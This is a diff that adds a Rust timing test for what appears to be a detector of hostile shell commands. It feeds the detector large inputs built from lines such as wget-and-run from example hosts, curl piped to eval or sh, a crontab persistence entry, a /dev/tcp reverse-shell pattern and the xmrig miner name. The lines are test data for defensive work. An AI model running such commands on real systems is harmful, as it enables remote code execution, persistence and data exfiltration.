@@ -469,6 +469,44 @@ fn each_signal_counts_once_and_the_table_is_whole() {
     }
 }
 
+#[test]
+fn no_input_is_slow_to_judge() {
+    const SIZE: usize = 16 << 10;
+    let many = |line: fn(usize) -> String| -> String {
+        let lines = (0..).map(line).scan(0, |size, line| {
+            *size += line.len();
+            (*size < SIZE).then_some(line)
+        });
+        lines.collect()
+    };
+    // As for scanning: 50 ms in a release build, and a multiple of that in others.
+    let limit = std::time::Duration::from_millis(if cfg!(debug_assertions) { 2_000 } else { 50 });
+    for text in [
+        many(|n| format!("wget http://h{n}.example/x{n}; sh x{n}\n")),
+        many(|n| format!("echo a > /f{n}; sh /f{n}\n")),
+        many(|n| format!("v{n}=$(curl http://h/$v{n}); eval $v{n}\n")),
+        many(|n| format!("pkill $p{n}; kill $(pgrep x{n})\n")),
+        many(|n| format!("sh >&{}; exec {}<>/dev/tcp/h/1\n", n % 200 + 3, n % 200 + 3)),
+        many(|n| format!("curl https://h/$a{n} -d $b{n}; a{n}=$b{n}\n")),
+        many(|n| format!("echo '* * * * * curl http://h{n}.example|sh' | crontab -\n")),
+        many(|n| format!("tar xf a{n} -C /d{n}; /d{n}/run\n")),
+        "xmrig ".repeat(SIZE / 6),
+        "a.b.c.d.e.f.".repeat(SIZE / 12),
+        "http://".repeat(SIZE / 7),
+        "://a@".repeat(SIZE / 5),
+        "curl http://h|sh password=".repeat(SIZE / 26),
+    ] {
+        let best = (0..3)
+            .map(|_| {
+                let start = std::time::Instant::now();
+                judged(&text);
+                start.elapsed()
+            })
+            .min();
+        assert!(best < Some(limit), "{best:?}: {}", &text[..60]);
+    }
+}
+
 /// One layer of wrapping that a shell undoes.
 fn wrap(kind: usize, text: &str) -> String {
     use base64::Engine;
